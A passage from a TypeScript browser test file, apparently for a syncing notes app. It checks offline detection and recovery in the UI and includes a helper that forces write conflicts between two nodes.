  test('says when the node is gone, and goes on when it is back', async () => {
    await put(laptop, 'note/1', { title: 'Milk' });
    const { page } = await browser.visit(laptop);
    await page.getByText('live', { exact: true }).waitFor();
    await page.context().setOffline(true);
    await page.getByText('no answer').waitFor();
    await page.context().setOffline(false);
    await put(laptop, 'note/2', { title: 'Bread' });
    await page.getByRole('link', { name: 'note/2' }).waitFor();
  });
});

/** Both write `both` while neither hears the other: tried again where one was faster than the other's commit. */
async function makeConflict(one: TestNode, other: TestNode, count: (node: TestNode) => Promise<number>): Promise<void> {
  await eventually(async () => {
    await Promise.all([put(one, 'both', { value: 'here' }), put(other, 'both', { value: 'there' })]);
    for (let looks = 0; looks < 20; looks++) {
      if ((await count(one)) > 0 && (await count(other)) > 0) return true;
      await new Promise((resolve) => setTimeout(resolve, 20));
    }
    return false;
  }, 'a conflict on both');
}
